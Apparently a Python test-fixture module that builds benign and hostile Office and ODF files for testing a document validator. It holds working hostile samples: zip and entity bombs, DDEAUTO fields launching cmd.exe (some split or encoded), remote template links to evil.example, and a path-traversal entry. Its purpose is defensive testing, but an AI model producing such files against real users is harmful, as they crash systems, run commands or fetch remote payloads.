"""Office files for tests, good and bad, made as small as their defect allows."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DDE_LINK = "<externalLink><ddeLink/></externalLink>"
LINK = "vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
_ODF = {
    "odt": "application/vnd.oasis.opendocument.text",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
    "odp": "application/vnd.oasis.opendocument.presentation",
}
Parts = Mapping[str, bytes | str]


def ooxml(
    kind: str = "docx", parts: Parts | None = None, types: str = "", links: str = "", main_type: str = ""
) -> bytes:
    """A sound file of this kind, with more ``parts``, more content ``types`` and more relationships (``links``)."""
    main, usual = _MAIN[kind]
    folder, _, name = main.rpartition("/")
    root = f'<Relationship Id="r1" Type="{_OFFICE}/officeDocument" Target="{main}"/>'
    content_types = (
        f'<Types xmlns="{PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main}" ContentType="{main_type or usual}"/>{types}</Types>'
    )
    made: Parts = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{root}</Relationships>',
        main: f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>رسالة</w:t></w:r></w:p></w:body></w:document>',
        f"{folder}/_rels/{name}.rels": f'<Relationships xmlns="{PACKAGE}/relationships">{links}</Relationships>',
        **(parts or {}),
    }
    return archive(made)


def odf(
    kind: str = "odt", parts: Parts | None = None, manifest: str = "", body: str = "<text:p>رسالة</text:p>"
) -> bytes:
    """A sound file of this kind, with more ``parts``, more entries of its ``manifest``, and another ``body``."""
    space = "urn:oasis:names:tc:opendocument:xmlns"
    names = f'xmlns:office="{space}:office:1.0" xmlns:text="{space}:text:1.0" xmlns:table="{space}:table:1.0"'
    names += f' xmlns:script="{space}:script:1.0" xmlns:draw="{space}:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
    listed = f'<manifest:manifest xmlns:manifest="{space}:manifest:1.0">{manifest}</manifest:manifest>'
    content = f"<office:document-content {names}><office:body>{body}</office:body></office:document-content>"
    made = {"mimetype": _ODF[kind], "META-INF/manifest.xml": listed, "content.xml": content, **(parts or {})}
    return archive(made, stored=("mimetype",))


def archive(parts: Parts, stored: tuple[str, ...] = ()) -> bytes:
    """A ZIP archive of these entries, in their order."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in parts.items():
            method = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            written.writestr(name, content, compress_type=method)
    return made.getvalue()


def link(kind: str, target: str, external: bool = True, space: str = _OFFICE) -> str:
    """One relationship of a part."""
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="x1" Type="{space}/{kind}" Target="{target}"{mode}/>'


def typed(part: str, content_type: str) -> str:
    """What a part is, by its name."""
    return f'<Override PartName="/{part}" ContentType="application/{content_type}"/>'


def with_fields(*pieces: str) -> bytes:
    """A letter with one Word field, said in these pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    body = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'
    return ooxml(parts={"word/document.xml": f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'})


def bomb(megabytes: int = 700) -> bytes:
    """A letter with a picture of zeros that unpacks to hundreds of megabytes."""
    made = io.BytesIO(ooxml())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED, compresslevel=1) as written:
        with written.open("word/media/image1.png", "w", force_zip64=True) as entry:
            for _ in range(megabytes):
                entry.write(bytes(1024 * 1024))
    return made.getvalue()


def lying_bomb() -> bytes:
    """The same, that says of itself that it is small."""
    made = bytearray(bomb())
    size = struct.pack("<I", 700 * 1024 * 1024)
    while (place := made.find(size)) >= 0:
        made[place : place + 4] = struct.pack("<I", 1000)
    return bytes(made)


def overlapping(entries: int = 2000) -> bytes:
    """Many entries of the directory that are one and the same in the file (after D. Fifield, "A better zip bomb")."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written:
        written.writestr("[Content_Types].xml", "<Types/>")
        written.writestr("word/media/0.bin", bytes(4 * 1024 * 1024))
        first = written.infolist()[1]
        for number in range(entries):
            again = zipfile.ZipInfo(f"word/media/{number + 1}.bin")
            for name in ("header_offset", "compress_size", "file_size", "CRC", "compress_type"):
                setattr(again, name, getattr(first, name))
            written.filelist.append(again)
    return made.getvalue()


def in_a_page() -> bytes:
    """A page with a script, and a letter behind it."""
    return b"<html><script>alert(1)</script></html>" + ooxml()


def encrypted_entries() -> bytes:
    """A letter whose entries say that they are encrypted."""
    made = bytearray(ooxml())
    for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = made.find(signature)
        while place >= 0:
            made[place + flags] |= 1
            place = made.find(signature, place + 4)
    return bytes(made)


def twice_the_same_name() -> bytes:
    """Two parts of one name: which one counts differs between readers."""
    made = io.BytesIO(ooxml())
    with zipfile.ZipFile(made, "a") as written:
        written.writestr("WORD/Document.xml", "<other/>")
    return made.getvalue()


def entity_bomb() -> bytes:
    """A billion laughs in the list of content types."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = f'<!DOCTYPE Types [<!ENTITY l0 "lol">{levels}]><Types>&l9;</Types>'
    return ooxml(parts={"[Content_Types].xml": types})


SOUND: dict[str, tuple[Callable[[], bytes], str, tuple[str, ...]]] = {
    "a letter": (ooxml, "docx", ()),
    "a workbook": (lambda: ooxml("xlsx"), "xlsx", ()),
    "slides": (lambda: ooxml("pptx"), "pptx", ()),
    "a letter of LibreOffice": (odf, "odt", ()),
    "a sheet of LibreOffice": (lambda: odf("ods"), "ods", ()),
    "slides of LibreOffice": (lambda: odf("odp"), "odp", ()),
    "a link to follow": (lambda: ooxml(links=link("hyperlink", "https://example.org")), "docx", ()),
    "a template on its author's disk": (
        lambda: ooxml(links=link("attachedTemplate", "file:///C:\\Users\\x\\Normal.dotm")),
        "docx",
        (),
    ),
    "slides with a chart": (
        lambda: ooxml("pptx", {"ppt/embeddings/Microsoft_Excel_Sheet.xlsx": ooxml("xlsx")}),
        "pptx",
        (),
    ),
    "cells of another workbook": (
        lambda: ooxml("xlsx", links=link("externalLinkPath", "other.xlsx")),
        "xlsx",
        ("external_links",),
    ),
    "a picture from elsewhere": (
        lambda: ooxml(links=link("image", "https://example.org/a.png")),
        "docx",
        ("external_links",),
    ),
    "empty libraries of macros": (lambda: odf(parts={"Basic/script-lc.xml": "<libraries/>"}), "odt", ()),
    "words about DDE": (lambda: ooxml(parts={"docProps/app.xml": "<a>DDEAUTO</a>"}), "docx", ()),
}
"""Files that are taken, with their kind and what is noted of them."""

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "macros of Word": (lambda: ooxml(parts={"word/vbaProject.bin": b"\xd0\xcf"}), "macros"),
    "a kind made for macros": (
        lambda: ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "macros",
    ),
    "macros under another name": (
        lambda: ooxml(types='<Override PartName="/word/x" ContentType="application/vnd.ms-office.vbaProject"/>'),
        "macros",
    ),
    "macro sheets of Excel 4": (
        lambda: ooxml("xlsx", types='<Override PartName="/x" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'),
        "macros",
    ),
    "macros in a chart's workbook": (
        lambda: ooxml("pptx", {"ppt/embeddings/a.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "an embedded program": (lambda: ooxml(parts={"word/embeddings/oleObject1.bin": b"MZ"}), "embedded_files"),
    "an archive as a chart's workbook": (
        lambda: ooxml("pptx", {"ppt/embeddings/a.xlsx": archive({"a.exe": "MZ"})}),
        "embedded_files",
    ),
    "a page in the letter": (lambda: ooxml(links=link("aFChunk", "a.html", external=False)), "embedded_files"),
    "a control": (
        lambda: ooxml(types='<Override PartName="/x" ContentType="application/vnd.ms-office.activeX+xml"/>'),
        "active_content",
    ),
    "a template from elsewhere": (
        lambda: ooxml(links=link("attachedTemplate", "https://evil.example/a.dotm")),
        "external_content",
    ),
    "a template from a share": (
        lambda: ooxml(links=link("attachedTemplate", "\\\\evil.example\\a.dotm")),
        "external_content",
    ),
    "a frame from elsewhere": (lambda: ooxml(links=link("frame", "http://evil.example")), "external_content"),
    "an object from elsewhere": (lambda: ooxml(links=link("oleObject", "http://evil.example/a")), "embedded_files"),
    "a field that starts a program": (lambda: with_fields("DDEAUTO c:\\\\windows\\\\cmd.exe"), "active_content"),
    "the same field in pieces": (lambda: with_fields("DD", "EAU", "TO cmd"), "active_content"),
    "the same field in entities": (lambda: with_fields("&#68;&#68;E cmd"), "active_content"),
    "a cell that starts a program": (
        lambda: ooxml(
            "xlsx",
            {"xl/externalLinks/externalLink1.xml": DDE_LINK},
            typed("xl/externalLinks/externalLink1.xml", LINK),
        ),
        "active_content",
    ),
    "macros of LibreOffice": (lambda: odf(parts={"Basic/Standard/Module1.xml": "<m/>"}), "macros"),
    "scripts of LibreOffice": (lambda: odf(parts={"Scripts/python/a.py": "import os"}), "macros"),
    "a script on opening": (
        lambda: odf(body='<script:event-listener xlink:href="vnd.sun.star.script:a.py$f?language=Python"/>'),
        "macros",
    ),
    "a sheet that starts a program": (
        lambda: odf("ods", body='<table:dde-link office:dde-application="cmd"/>'),
        "active_content",
    ),
    "a section from elsewhere": (
        lambda: odf(body='<text:section-source xlink:href="https://evil.example/a.odt"/>'),
        "external_content",
    ),
    "an object of OLE": (
        lambda: odf(manifest='<manifest:file-entry manifest:media-type="application/vnd.sun.star.oleobject"/>'),
        "embedded_files",
    ),
    "a password of LibreOffice": (
        lambda: odf(
            parts={"content.xml": b"\x00\x01\x02"},
            manifest="<manifest:file-entry><manifest:encryption-data/></manifest:file-entry>",
        ),
        "encrypted",
    ),
    "encrypted entries": (encrypted_entries, "encrypted"),
    "two parts of one name": (twice_the_same_name, "damaged"),
    "entities": (entity_bomb, "damaged"),
    "a part outside": (lambda: ooxml(parts={"../../etc/passwd": "x"}), "damaged"),
    "cut in the middle": (lambda: ooxml()[: len(ooxml()) // 2], "damaged"),
    "no XML": (lambda: ooxml(parts={"word/document.xml": "<w:document"}), "damaged"),
    "type behind content": (
        lambda: archive({"content.xml": "<a/>", "mimetype": _ODF["odt"]}, stored=("mimetype",)),
        "damaged",
    ),
    "entries over each other": (overlapping, "too_heavy"),
    "a bomb": (bomb, "too_heavy"),
    "a bomb that lies": (lying_bomb, "damaged"),
    "any archive": (lambda: archive({"a.txt": "x"}), "kind_not_taken"),
    "a template": (
        lambda: ooxml(main_type="application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"),
        "kind_not_taken",
    ),
    "behind a page": (in_a_page, "kind_not_taken"),
}
"""Files that are refused, with the reason."""
